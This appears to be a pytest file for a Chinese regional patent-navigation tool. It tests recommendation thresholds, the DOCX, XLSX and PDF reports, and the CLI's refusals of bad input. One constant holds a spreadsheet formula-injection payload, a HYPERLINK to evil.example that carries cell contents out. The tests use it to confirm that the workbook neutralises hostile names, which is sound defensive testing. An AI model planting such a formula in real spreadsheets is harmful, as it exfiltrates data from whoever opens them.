"""Navigation outputs: recommendations from hand-built landscape figures (each rule just below, at and above its
threshold), the report read back with python-docx (five sections, tables equal to the landscape), the companion
workbook (no live formula from a hostile applicant name), the PDF (one print), and `hvp navigate`'s refusals."""

from __future__ import annotations

import dataclasses
import subprocess
from datetime import date

import pytest
from docx import Document
from openpyxl import load_workbook
from typer.testing import CliRunner

from hvpatent.navigation import Landscape, recommendations
from hvpatent.navigation.recommend import PRIORITY
from hvpatent.reports.docx_writer import cell_text
from hvpatent.reports.navigation import HEADINGS, write_navigation_report, write_navigation_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
AS_OF = date(2024, 12, 31)
YEARS = list(range(2015, 2025))


def branch(code: str, position: str, *, level: int = 1, region_count: int = 10, compare_count: int = 100,
           rta: float | None = 1.0, region_growth: float | None = 0.1, compare_growth: float | None = 0.1) -> dict:
    return {"branch": f"new_energy.{code}", "name": f"分支{code}", "name_en": f"branch {code}",
            "parent": None if level == 1 else "new_energy.battery", "level": level, "region_count": region_count,
            "compare_count": compare_count, "region_share": 0.25, "compare_share": 0.125, "rta": rta,
            "region_growth": region_growth, "compare_growth": compare_growth, "position": position}


def land(branches: list[dict] | None = None, *, region_apps: int = 0, ue: int = 0, key: list[dict] | None = None,
         partners: list[dict] | None = None, applicant: str = "甲公司"):
    """A landscape by hand.  trend: the region's applications all in 2024 (``region_apps``) and 3×that in the
    comparison; network: one local enterprise and one university co-applying ``ue`` patents."""
    trend = [{"side": "region", "year": 2024, "patent_type": "invention", "applications": region_apps,
              "grants": 2, "valid": 5},
             {"side": "compare", "year": 2024, "patent_type": "invention", "applications": 3 * region_apps,
              "grants": 7, "valid": 11},
             {"side": "compare", "year": 2024, "patent_type": "utility_model", "applications": 4, "grants": 1,
              "valid": 1}]
    nodes = [{"id": "e", "name": applicant, "applicant_type": "enterprise", "patents": 9, "local": True},
             {"id": "u", "name": "重庆大学", "applicant_type": "university", "patents": 50, "local": False}]
    return Landscape(
        industry="new_energy", industry_name="新能源", as_of=AS_OF, region="500118", region_name="永川区",
        compare="500000", compare_name="重庆市", years=YEARS, trend=trend,
        share=[{"year": 2024, "region_applications": region_apps, "compare_applications": 3 * region_apps + 4,
                "share": region_apps / (3 * region_apps + 4)}],
        branches=branches if branches is not None else [], applicants={
            "region": [{"applicant": applicant, "applicant_type": "enterprise", "region_code": "500118",
                        "applications": 9, "inventions": 6, "grants": 3, "valid_inventions": 2}],
            "compare": [{"applicant": "重庆大学", "applicant_type": "university", "region_code": "500106",
                         "applications": 50, "inventions": 48, "grants": 30, "valid_inventions": 25}]},
        entity_types=[{"applicant_type": "enterprise", "entities": 1, "applications": 9, "valid_inventions": 2}],
        inventors=[{"inventor": "张三", "applicants": [applicant], "patents": 4, "inventions": 3, "co_inventors": 2,
                    "top_co_inventors": ["李四", "王五"], "branches": ["new_energy.battery"]}],
        network={"nodes": nodes, "edges": [{"source": "e", "target": "u", "patents": ue}] if ue else []},
        partners=partners if partners is not None else [], key_patents=key if key is not None else [],
        notes=["（测试）对比区域数据为手工构造"])


def kinds(land_) -> list[str]:
    return [r.kind for r in recommendations(land_)]


# -- recommendations at their thresholds ----------------------------------------------------------------------
@pytest.mark.parametrize(("growth", "expected"), [(-0.01, "consolidate"), (0.0, "consolidate"),
                                                  (0.01, "strengthen")])
def test_strong_branch_strengthens_only_when_growing(growth, expected):
    # strengthen: strong and region_growth > 0; consolidate: strong and region_growth <= 0 (0 is "not growing")
    recs = recommendations(land([branch("battery", "strong", rta=1.5, region_growth=growth)]))
    assert [r.kind for r in recs] == [expected]
    assert recs[0].evidence["region_growth"] == growth and recs[0].evidence["rta"] == 1.5
    assert recs[0].branch == "new_energy.battery" and recs[0].rule


def test_balanced_and_unknown_growth_give_nothing():
    assert kinds(land([branch("a", "balanced", region_growth=0.9)])) == []
    assert kinds(land([branch("a", "strong", rta=2.0, region_growth=None)])) == []   # growth unknown: no trigger
    assert kinds(land([branch("a", "absent", region_count=0, compare_count=0)])) == []


@pytest.mark.parametrize(("compare_growth", "fires"), [(0.19, False), (0.2, False), (0.21, True)])
def test_catch_up_when_the_comparison_grows_faster(compare_growth, fires):
    # weak, region growth 0.2: fires only when compare_growth > 0.2
    recs = recommendations(land([branch("h2", "weak", rta=0.5, region_growth=0.2, compare_growth=compare_growth)]))
    assert [r.kind for r in recs] == (["catch_up"] if fires else [])
    if fires:
        assert recs[0].evidence["compare_growth"] == 0.21 and "0.50" in recs[0].text


def test_fill_gap_names_the_top_partners_of_the_branch():
    partners = [{"applicant": f"研究院{i}", "applicant_type": "institute", "region_code": "500106",
                 "region_name": "沙坪坝区", "branch": "new_energy.solar", "branch_name": "分支solar", "patents": i,
                 "reason": "partner", "why": "该分支申请较多"} for i in range(1, 5)]
    gap = branch("solar", "gap", region_count=0, compare_count=40, rta=0.0, region_growth=None, compare_growth=0.3)
    recs = recommendations(land([gap], partners=partners))
    fill = [r for r in recs if r.kind == "fill_gap"]
    assert len(fill) == 1 and fill[0].evidence["partners"] == ["研究院4", "研究院3", "研究院2"]  # top 3 by patents
    assert "研究院4、研究院3、研究院2" in fill[0].text and "40" in fill[0].text
    assert [r.kind for r in recs] == ["fill_gap"]    # a gap's partners are named there, not again by cooperate
    # without partners the gap is still named, with no names
    assert kinds(land([gap])) == ["fill_gap"]


@pytest.mark.parametrize(("count", "high", "fires"), [(19, 0, False), (20, 0, True), (21, 0, True),
                                                      (40, 1, True), (40, 2, False), (40, 3, False)])
def test_cultivate_high_value_thresholds(count, high, fires):
    # region_count >= 20 and high-value key patents / region_count < 0.05: 1/40 = 0.025 fires, 2/40 = 0.05 not
    key = [{"app_no": f"CN{i}", "title": "t", "applicant": "甲公司", "branches": ["new_energy.battery"],
            "reason": "high_value", "high_value_criteria": ["family_abroad"], "forward_citations": 0}
           for i in range(high)]
    b = branch("battery", "balanced", region_count=count)
    assert ("cultivate_high_value" in kinds(land([b], key=key))) is fires


@pytest.mark.parametrize(("ue", "fires"), [(1, True), (2, False), (3, False)])
def test_cooperate_when_enterprise_university_coapplications_are_few(ue, fires):
    # 100 region applications: ue/100 < 0.02 fires at 1, not at 2 (the threshold) or 3
    recs = recommendations(land(region_apps=100, ue=ue))
    region_wide = [r for r in recs if r.kind == "cooperate" and r.branch is None]
    assert bool(region_wide) is fires
    if fires:
        assert region_wide[0].evidence == {"ue_coapplications": 1, "region_applications": 100, "ratio": 0.01}


def test_cooperate_per_weak_branch_with_partners_at_most_five():
    # branches w1..w6 weak (growth unknown: no catch_up), w_i has i partners: the 5 with the most, most first
    weak = [branch(f"w{i}", "weak", rta=0.5, region_growth=None) for i in range(1, 7)]
    partners = [{"applicant": f"大学{i}-{j}", "applicant_type": "university", "region_code": "500106",
                 "region_name": "沙坪坝区", "branch": f"new_energy.w{i}", "branch_name": f"分支w{i}", "patents": j,
                 "reason": "partner", "why": ""} for i in range(1, 7) for j in range(1, i + 1)]
    recs = recommendations(land(weak, partners=partners))
    assert [(r.kind, r.branch) for r in recs] == [("cooperate", f"new_energy.w{i}") for i in (6, 5, 4, 3, 2)]
    assert [p["applicant"] for p in recs[0].evidence["partners"]] == ["大学6-6", "大学6-5", "大学6-4"]
    # with few enterprise–university co-applications (0 of 100) the region-wide one comes first
    recs = recommendations(land(weak, partners=partners, region_apps=100))
    assert [r.branch for r in recs] == [None, *(f"new_energy.w{i}" for i in (6, 5, 4, 3, 2))]


def test_recruit_only_with_recruitment_targets():
    target = {"applicant": "赵工", "applicant_type": "individual", "region_code": "110108", "region_name": "海淀区",
              "branch": "new_energy.h2", "branch_name": "分支h2", "patents": 6, "reason": "recruit", "why": "发明人"}
    b = branch("h2", "balanced")
    assert kinds(land([b])) == []
    recs = recommendations(land([b], partners=[target]))
    assert [r.kind for r in recs] == ["recruit"] and "赵工" in recs[0].text


@pytest.mark.parametrize(("abroad", "fires"), [(0, True), (1, False)])
def test_go_abroad_when_no_key_patent_has_family_abroad(abroad, fires):
    key = [{"app_no": f"CN{i}", "title": "t", "applicant": "甲公司", "branches": [], "reason": "most_cited",
            "high_value_criteria": ["family_abroad"] if i < abroad else ["sei"], "forward_citations": 3}
           for i in range(2)]
    assert ("go_abroad" in kinds(land(key=key))) is fires
    assert kinds(land(key=[])) == []   # no key patents: nothing to say


def test_order_is_by_priority_then_trigger_size_and_deterministic():
    branches = [branch("battery", "strong", rta=1.3, region_growth=0.2),
                branch("motor", "strong", rta=2.0, region_growth=0.1),
                branch("solar", "gap", region_count=0, compare_count=40, rta=0.0, region_growth=None),
                branch("h2", "weak", rta=0.5, region_growth=0.0, compare_growth=0.5),
                branch("cathode", "strong", level=2, rta=1.4, region_growth=-0.3),
                branch("deep", "strong", level=3, rta=3.0, region_growth=1.0)]          # level 3: no recommendation
    key = [{"app_no": "CN1", "title": "t", "applicant": "甲公司", "branches": [], "reason": "high_value",
            "high_value_criteria": ["sei"], "forward_citations": 0}]
    the_land = land(branches, region_apps=100, key=key)
    recs = recommendations(the_land)
    assert [(r.kind, r.branch) for r in recs] == [
        ("fill_gap", "new_energy.solar"), ("catch_up", "new_energy.h2"),
        ("strengthen", "new_energy.motor"), ("strengthen", "new_energy.battery"),   # larger RTA first
        ("consolidate", "new_energy.cathode"), ("cooperate", None), ("go_abroad", None)]
    assert [PRIORITY.index(r.kind) for r in recs] == sorted(PRIORITY.index(r.kind) for r in recs)
    assert [dataclasses.asdict(r) for r in recommendations(the_land)] == [dataclasses.asdict(r) for r in recs]
    assert all(r.evidence and r.rule and r.text and r.text_en for r in recs)


# -- the report and the workbook -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def full_land():
    branches = [branch("battery", "strong", rta=1.5, region_growth=0.2, region_count=30, compare_count=100),
                branch("cathode", "strong", level=2, rta=1.3, region_growth=-0.1, region_count=12, compare_count=40),
                branch("solar", "gap", region_count=0, compare_count=40, rta=0.0, region_growth=None)]
    partners = [{"applicant": HOSTILE, "applicant_type": "university", "region_code": "500106",
                 "region_name": "沙坪坝区", "branch": "new_energy.solar", "branch_name": "分支solar", "patents": 7,
                 "reason": "partner", "why": "该分支申请7件"}]
    key = [{"app_no": "CN202310000001.2", "title": "一种电池", "applicant": HOSTILE,
            "branches": ["new_energy.battery"], "reason": "high_value", "high_value_criteria": ["sei"],
            "forward_citations": 4}]
    return land(branches, region_apps=50, ue=3, key=key, partners=partners, applicant=HOSTILE)


def test_docx_has_the_five_sections_and_the_landscape_figures(full_land, tmp_path):
    recs = recommendations(full_land)
    path = write_navigation_report(full_land, recs, tmp_path / "r.docx", "docx", imported_on=date(2025, 1, 3),
                                   notice="【演示数据】合成", issued_on=date(2025, 1, 10))
    doc = Document(str(path))
    texts = [p.text for p in doc.paragraphs]
    assert doc.paragraphs[0].text == "永川区新能源产业专利导航分析报告"
    assert [t for t in texts if t in HEADINGS] == list(HEADINGS)
    body = "\n".join(texts)
    assert "【演示数据】合成" in body
    assert "本地区为永川区（500118），对比区域为重庆市，数据截至2024-12-31，最近一次数据导入于2025-01-03" in body
    assert len(doc.inline_shapes) >= 3     # trend, share, breakdown, RTA charts
    tables = {t.rows[0].cells[0].text + "|" + t.rows[0].cells[1].text: t for t in doc.tables}
    # branch table: counts and shares (%) equal the landscape's
    breakdown = tables["技术分支|本地区申请"]
    rows = [[c.text for c in r.cells] for r in breakdown.rows[1:]]
    assert len(rows) == len(full_land.branches)
    for row, b in zip(rows, full_land.branches, strict=True):
        assert row[0].strip("　") == b["name"]
        assert row[1:] == [cell_text(b["region_count"]), cell_text(b["region_share"] * 100),
                           cell_text(b["compare_count"]), cell_text(b["compare_share"] * 100)]
    positions = tables["技术分支|RTA"]
    assert [c.text for c in positions.rows[1].cells][1:] == ["1.5", "20", "10", "优势"]   # battery: growths in %
    # trend: 2024 row sums the types (compare: 150 inventions + 4 utility models), share = 50/154
    trend = tables["年份|本地区申请"]
    y2024 = next([c.text for c in r.cells] for r in trend.rows[1:] if r.cells[0].text == "2024")
    assert y2024 == ["2024", "50", "50", "2", "5", "154", "8", "12", cell_text(round(50 / 154 * 100, 2))]
    applicants = next(t for t in doc.tables if [c.text for c in t.rows[0].cells][:3] == ["申请人", "类型", "申请"])
    a = full_land.applicants["region"][0]
    assert [c.text for c in applicants.rows[1].cells] == [a["applicant"], "企业", "9", "6", "3", "2"]
        # recommendations with their rule and evidence
    section5 = texts[texts.index(HEADINGS[4]):]
    assert any(t.startswith("（1）填补空白：分支solar") for t in section5)
    assert sum(t.startswith("规则：") for t in section5) == len(recs) > 0


def test_xlsx_neutralises_hostile_names_and_lists_the_details(full_land, tmp_path):
    details = [{"table": "技术分支", "row": "分支battery 永川区", "app_no": "CN202310000001.2", "title": HOSTILE,
                "patent_type": "invention", "filing_date": date(2023, 1, 5), "grant_date": None, "state": "pending",
                "applicant": HOSTILE, "region_code": "500118", "branches": ["new_energy.battery"], "source": "rule"}]
    path = write_navigation_xlsx(full_land, recommendations(full_land), tmp_path / "r.xlsx", details)
    wb = load_workbook(path)
    assert {"技术分支", "本地区主要申请人", "可合作可引进的创新主体", "核心专利", "发展路径建议", "明细"} <= set(
        wb.sheetnames)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("=")
                    seen += cell.value == "'" + HOSTILE
    assert seen >= 4   # applicants, partners, key patents, details (title and applicant), network
    detail = list(wb["明细"].iter_rows(min_row=2, values_only=True))
    assert detail[0][0] == "技术分支" and detail[0][2] == "CN202310000001.2" and detail[0][10] == "new_energy.battery"
    branches = list(wb["技术分支"].iter_rows(min_row=2, values_only=True))
    assert branches[0][:3] == ("new_energy.battery", "分支battery", 30) and isinstance(branches[0][2], int)


def test_pdf_prints(full_land, tmp_path):
    # the one PDF test: Chromium takes seconds
    path = write_navigation_report(full_land, recommendations(full_land), tmp_path / "r.pdf", "pdf")
    assert path.read_bytes()[:4] == b"%PDF"
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "产业现状" in text.replace(" ", "")


def test_report_format_refused():
    with pytest.raises(ValueError, match="docx"):
        write_navigation_report(land(), [], __import__("pathlib").Path("x.html"), "html")


# -- the command's refusals -------------------------------------------------------------------------------------
@pytest.mark.parametrize(("args", "says"), [
    (["navigate", "no_such"], "new_energy"),                          # lists the industries
    (["navigate", "新能源", "--region", "5001１8"], "--region"),        # full-width digit
    (["navigate", "new_energy", "--region", "999999"], "999999"),       # not a known region
    (["navigate", "new_energy", "--compare", "world"], "--compare"),
])
def test_cli_refuses_bad_input_with_exit_2(args, says, tmp_path):
    from hvpatent.cli.main import app

    result = CliRunner().invoke(app, ["--db", str(tmp_path / "none.duckdb"), *args])
    assert result.exit_code == 2, result.output
    assert says in result.output


@pytest.mark.parametrize(("files", "demo"), [(["patents_cnipa.csv"], False),
                                             (["/x/patents_cnipa.csv", "families_google.jsonl"], True)])
def test_data_facts_name_the_latest_import_and_the_demo(files, demo):
    import duckdb

    from hvpatent.cli.navigate import data_facts

    class Wh:
        con = duckdb.connect()

    Wh.con.sql("CREATE TABLE imports (file_name VARCHAR, imported_at TIMESTAMP)")
    for i, name in enumerate(files):
        Wh.con.execute("INSERT INTO imports VALUES (?, ?)", [name, f"2025-01-0{i + 1} 10:00:00"])
    assert data_facts(Wh) == (date(2025, 1, len(files)), demo)


def test_cli_lists_the_eight_industries_in_english(tmp_path):
    from hvpatent.cli.main import app
    from hvpatent.indicators.config import industries

    result = CliRunner().invoke(app, ["--lang", "en", "navigate", "nope"])
    assert result.exit_code == 2 and "unknown industry" in result.output
    assert len(industries()) == 8 and all(i.code in result.output for i in industries())


# -- end to end on the landscape's hand-built world (tests/test_navigation_landscape.py) --------------------------
@pytest.fixture(scope="module")
def world_db(tmp_path_factory):
    import test_navigation_landscape as nl
    from hvpatent.warehouse.store import Warehouse

    mp = pytest.MonkeyPatch()
    mp.setattr(nl.land_mod, "_tree", lambda industry: nl.TREE)
    mp.setattr(nl.land_mod, "_placements", nl.stub_placements)
    path = tmp_path_factory.mktemp("navigate") / "world.duckdb"
    with Warehouse(path) as wh:
        nl.build(wh)
    yield str(path), nl
    mp.undo()


def test_cli_writes_the_report_and_its_workbook_from_the_landscape(world_db, tmp_path, monkeypatch):
    from hvpatent.cli.main import app

    db, nl = world_db
    runner = CliRunner()
    out = tmp_path / "报告.docx"
    made = runner.invoke(app, ["--db", db, "navigate", "新能源", "--as-of", "2024-06-30", "--region", "500118",
                               "--report", "docx", "--out", str(out)])
    assert made.exit_code == 0, made.output
    doc = Document(str(out))
    assert [p.text for p in doc.paragraphs if p.text in HEADINGS] == list(HEADINGS)
    breakdown = next(t for t in doc.tables if t.rows[0].cells[1].text == "本地区申请" and
                     t.rows[0].cells[0].text == "技术分支")
    counts = {r.cells[0].text.strip("　"): (r.cells[1].text, r.cells[3].text) for r in breakdown.rows[1:]}
    assert counts["锂电池"] == ("3", "5") and counts["正极材料"] == ("1", "1") and counts["光伏"] == ("0", "3")
    body = "\n".join(p.text for p in doc.paragraphs)
    assert "填补空白：光伏" in body and "规则：position = gap" in body      # solar is the world's gap branch
    assert "最近一次数据导入于" in body and "演示数据" not in body          # the world is not the demo's
    wb = load_workbook(out.with_suffix(".xlsx"))
    detail = list(wb["明细"].iter_rows(min_row=2, values_only=True))
    battery = {r[2] for r in detail if r[0] == "技术分支" and r[1] == "锂电池 永川区"}
    assert battery == {nl.APP["D1"], nl.APP["D2"], nl.APP["D3"]}
    first = {r[2] for r in detail if r[0] == "主要申请人(永川区)" and r[1] == nl.E1}   # E1 first applicant of D1-D3
    assert first == battery
    solar = {r[2] for r in detail if r[1] == "光伏 重庆市"}
    assert solar == {nl.APP["C7"], nl.APP["C8"], nl.APP["C9"]}
    assert {r[1] for r in detail if r[0] == "主要发明人"} <= {i for i in ("李一", "王二", "赵三", "孙四")}
    shown = runner.invoke(app, ["--db", db, "navigate", "new_energy", "--as-of", "2024-06-30", "--region", "500118"])
    assert shown.exit_code == 0, shown.output
    assert "锂电池" in shown.output and "填补空白：光伏" in shown.output and "空白" in shown.output
    as_json = runner.invoke(app, ["--db", db, "navigate", "new_energy", "--as-of", "2024-06-30", "--region",
                                  "500118", "--compare", "national", "--format", "json"])
    assert as_json.exit_code == 0, as_json.output
    data = __import__("json").loads(as_json.output)
    assert data["as_of"] == "2024-06-30" and data["compare"] is None
    assert next(b for b in data["branches"] if b["branch"] == "new_energy.battery")["region_count"] == 3


def test_details_reuse_one_scope_and_list_each_partners_figure(world_db, monkeypatch):
    # navigation_details computes the landscape's scope once (or not at all when given it), whatever the number
    # of rows it drills; the partners and recruits of the world (tests/test_navigation_landscape.py test_partners:
    # CQU solar 3, inventor 周五 3, 吴六 1, C_WIND wind 1, inventor 郑七 1) each get exactly their figure's
    # patents, listed through the row's own filters.
    from hvpatent.navigation import landscape, landscape_scope
    from hvpatent.reports.navigation import navigation_details
    from hvpatent.warehouse.store import Warehouse

    db, nl = world_db
    computed = []
    real = nl.land_mod._scope
    monkeypatch.setattr(nl.land_mod, "_scope", lambda *a, **k: computed.append(a[1]) or real(*a, **k))
    with Warehouse(db, read_only=True) as wh:
        con = wh.ibis()
        land = landscape(con, "new_energy", date(2024, 6, 30), "500118")
        computed.clear()
        details = navigation_details(con, land)
        assert computed == ["new_energy"]                       # one scope for every row
        scope = landscape_scope(con, "new_energy", date(2024, 6, 30), "500118")
        computed.clear()
        assert navigation_details(con, land, scope=scope) == details
        assert computed == []                                   # the given scope, none computed
    partner_rows_ = [r for r in details if r["table"] == "可合作可引进的创新主体"]
    counts = {}
    for r in partner_rows_:
        counts[r["row"]] = counts.get(r["row"], 0) + 1
    expected = {f"{p.get('inventor') or p['applicant']} {p['branch_name']}": p["patents"] for p in land.partners}
    assert counts == expected and sorted(expected.values()) == [1, 1, 1, 3, 3]
